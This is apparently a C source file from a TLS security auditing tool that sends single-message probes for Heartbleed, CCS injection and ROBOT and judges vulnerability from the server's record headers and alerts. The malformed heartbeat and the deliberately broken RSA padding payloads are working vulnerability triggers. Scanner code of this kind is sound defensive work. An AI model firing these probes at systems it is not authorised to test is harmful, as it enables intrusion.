/*
 * Probes behind a first flight. Invariant: at most one message is sent on a connection, and what comes back
 * is looked at by its record headers and alerts alone.
 */

#include "audit/attack.h"

#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/x509.h>
#include <sodium.h>
#include <string.h>

#define RECORD_CHANGE_CIPHER 20
#define RECORD_ALERT 21
#define RECORD_HANDSHAKE 22
#define RECORD_HEARTBEAT 24
#define MESSAGE_CLIENT_KEY_EXCHANGE 16
#define ALERT_WARNING 1
#define ALERT_CLOSE_NOTIFY 0
#define ALERT_BAD_RECORD_MAC 20
#define ALERT_DECRYPTION_FAILED 21
#define HEARTBEAT_SENT_LEN 3
#define HEARTBEAT_CLAIM 0x4000
#define PREMASTER_LEN 48
#define RSA_LEN_MIN 64
#define RSA_LEN_MAX 1024
#define FINISHED_LEN 40

void audit_attack_init(struct audit_attack *a, enum audit_attack_kind kind, unsigned variant)
{
	*a = (struct audit_attack){ .kind = kind, .variant = variant };
}

static void put_record(struct writer *w, uint8_t type, const struct audit_flight *f, size_t len)
{
	writer_u8(w, type);
	writer_u16(w, audit_version_code(f->version));
	writer_u16(w, (uint16_t)len);
}

static void put_change_cipher(struct writer *w, const struct audit_flight *f)
{
	put_record(w, RECORD_CHANGE_CIPHER, f, 1);
	writer_u8(w, 1);
}

static void put_heartbeat(struct writer *w, const struct audit_flight *f)
{
	put_record(w, RECORD_HEARTBEAT, f, HEARTBEAT_SENT_LEN);
	writer_u8(w, 1);
	writer_u16(w, HEARTBEAT_CLAIM);
	/* A sound server says nothing to that. The end of the connection behind it spares the wait. */
	put_record(w, RECORD_ALERT, f, 2);
	writer_u8(w, ALERT_WARNING);
	writer_u8(w, ALERT_CLOSE_NOTIFY);
}

/*
 * PKCS#1 v1.5, type 2, of a premaster secret; wrong in one place by variant: 1 the first bytes, 2 a zero
 * within the padding, 3 no zero at all, 4 the version.
 */
static void pad(uint8_t *block, size_t len, unsigned variant, uint16_t version)
{
	size_t zero = len - PREMASTER_LEN - 1;
	for (size_t i = 0; i < len; i++)
		block[i] = (uint8_t)(1 + randombytes_uniform(255));
	block[0] = 0;
	block[1] = 2;
	block[zero] = 0;
	block[zero + 1] = (uint8_t)(version >> 8);
	block[zero + 2] = (uint8_t)version;
	if (variant == 1) {
		block[0] = 0x41;
		block[1] = 0x17;
	} else if (variant == 2) {
		block[3] = 0;
	} else if (variant == 3) {
		block[zero] = 0x11;
	} else if (variant == 4) {
		block[zero + 1] = 0x02;
		block[zero + 2] = 0x02;
	}
}

/* block^e mod n of the certificate's key, in place. The length of n, or 0. */
static size_t encrypt(
	struct span der, uint8_t block[RSA_LEN_MAX], unsigned variant, uint16_t version)
{
	const unsigned char *at = der.data;
	size_t len = 0, ret = 0;
	BIGNUM *n = NULL, *e = NULL, *m = NULL;
	BN_CTX *ctx = BN_CTX_new();
	X509 *cert = der.len > 0 && der.len <= AUDIT_CERT_LEN_MAX
		? d2i_X509(NULL, &at, (long)der.len)
		: NULL;
	EVP_PKEY *key = cert != NULL ? X509_get0_pubkey(cert) : NULL;

	if (ctx == NULL || key == NULL || EVP_PKEY_get_base_id(key) != EVP_PKEY_RSA ||
		EVP_PKEY_get_bn_param(key, OSSL_PKEY_PARAM_RSA_N, &n) != 1 ||
		EVP_PKEY_get_bn_param(key, OSSL_PKEY_PARAM_RSA_E, &e) != 1 || BN_num_bits(e) > 64)
		goto out;
	len = (size_t)BN_num_bytes(n);
	if (len < RSA_LEN_MIN || len > RSA_LEN_MAX)
		goto out;
	pad(block, len, variant, version);
	m = BN_bin2bn(block, (int)len, NULL);
	/* A first byte that is too great would not be smaller than n. */
	if (m == NULL || BN_mod_exp(m, m, e, n, ctx) != 1 || BN_bn2binpad(m, block, (int)len) < 0)
		goto out;
	ret = len;
out:
	BN_free(m);
	BN_free(e);
	BN_free(n);
	X509_free(cert);
	BN_CTX_free(ctx);
	return ret;
}

static bool put_robot(struct writer *w, const struct audit_attack *a, const struct audit_flight *f)
{
	uint8_t block[RSA_LEN_MAX], finished[FINISHED_LEN];
	if (f->cert_count == 0)
		return false;
	uint16_t version = audit_version_code(f->version);
	size_t len = encrypt(f->certs[0], block, a->variant, version);
	if (len == 0)
		return false;
	size_t prefix = f->version == AUDIT_SSL3 ? 0 : 2; /* RFC 5246 7.4.7.1 */
	put_record(w, RECORD_HANDSHAKE, f, 4 + prefix + len);
	writer_u8(w, MESSAGE_CLIENT_KEY_EXCHANGE);
	writer_u8(w, 0);
	writer_u16(w, (uint16_t)(prefix + len));
	if (prefix > 0)
		writer_u16(w, (uint16_t)len);
	writer_put(w, block, len);
	put_change_cipher(w, f);
	randombytes_buf(finished, sizeof(finished));
	put_record(w, RECORD_HANDSHAKE, f, sizeof(finished));
	writer_put(w, finished, sizeof(finished));
	return !w->is_full;
}

static bool put_attack(struct writer *w, const struct audit_attack *a, const struct audit_flight *f)
{
	switch (a->kind) {
	case AUDIT_ATTACK_HEARTBLEED:
		put_heartbeat(w, f);
		return f->has_heartbeat;
	case AUDIT_ATTACK_CCS:
		put_change_cipher(w, f);
		put_change_cipher(w, f);
		return true;
	case AUDIT_ATTACK_ROBOT:
		return put_robot(w, a, f);
	}
	return false;
}

/* Returns false when what came decides. */
static bool read_header(struct audit_attack *a)
{
	size_t len = (size_t)a->header[3] << 8 | a->header[4];
	a->record_type = a->header[0];
	a->header_len = 0;
	a->body_left = len;
	a->body_at = 0;
	if (a->record_type == RECORD_HEARTBEAT) {
		if (len > a->heartbeat_len)
			a->heartbeat_len = (uint16_t)len;
		return len <= HEARTBEAT_SENT_LEN;
	}
	if (a->record_type == RECORD_ALERT)
		return true;
	a->reaction = AUDIT_REACTION_OTHER;
	return a->kind != AUDIT_ATTACK_ROBOT;
}

static bool read_records(struct audit_attack *a, struct reader *r)
{
	while (r->left > 0) {
		uint8_t c = reader_u8(r);
		if (a->body_left == 0) {
			a->header[a->header_len++] = c;
			if (a->header_len == sizeof(a->header) && !read_header(a))
				return false;
			continue;
		}
		a->body_left--;
		if (a->record_type == RECORD_ALERT && a->body_at++ == 1) {
			a->reaction = AUDIT_REACTION_ALERT;
			a->alert_code = c;
			return false;
		}
	}
	return true;
}

bool audit_attack_more(void *arg, const struct audit_flight *f, struct span bytes, bool is_closed,
	uint8_t *to, size_t cap, size_t *ret_len)
{
	struct audit_attack *a = arg;
	struct writer w = writer_init(to, cap);
	struct reader r = reader_init(bytes);
	if (is_closed)
		return false;
	if (a->is_sent)
		return read_records(a, &r);
	/* Nothing was chosen, or nothing that this can be tried with. */
	if (f->end != AUDIT_FLIGHT_HELLO || f->version == AUDIT_TLS13 || !put_attack(&w, a, f) ||
		w.is_full)
		return false;
	a->is_sent = true;
	*ret_len = w.len;
	return true;
}

void audit_attack_end(struct audit_attack *a, bool is_closed, bool is_reset)
{
	if (a->reaction != AUDIT_REACTION_NONE)
		return;
	if (is_closed)
		a->reaction = AUDIT_REACTION_CLOSED;
	else if (is_reset)
		a->reaction = AUDIT_REACTION_RESET;
}

enum audit_answer audit_attack_answer(const struct audit_attack *a)
{
	bool is_hit = false;
	if (!a->is_sent || a->kind == AUDIT_ATTACK_ROBOT)
		return AUDIT_UNKNOWN;
	if (a->kind == AUDIT_ATTACK_HEARTBLEED)
		is_hit = a->heartbeat_len > HEARTBEAT_SENT_LEN;
	else
		is_hit = a->reaction == AUDIT_REACTION_ALERT &&
			(a->alert_code == ALERT_BAD_RECORD_MAC ||
				a->alert_code == ALERT_DECRYPTION_FAILED);
	return is_hit ? AUDIT_YES : AUDIT_NO;
}

enum audit_answer audit_robot_answer(const struct audit_attack attacks[AUDIT_ROBOT_VARIANTS])
{
	for (size_t i = 0; i < AUDIT_ROBOT_VARIANTS; i++)
		if (!attacks[i].is_sent)
			return AUDIT_UNKNOWN;
	for (size_t i = 1; i < AUDIT_ROBOT_VARIANTS; i++)
		if (attacks[i].reaction != attacks[0].reaction ||
			attacks[i].alert_code != attacks[0].alert_code)
			return AUDIT_YES;
	return AUDIT_NO;
}
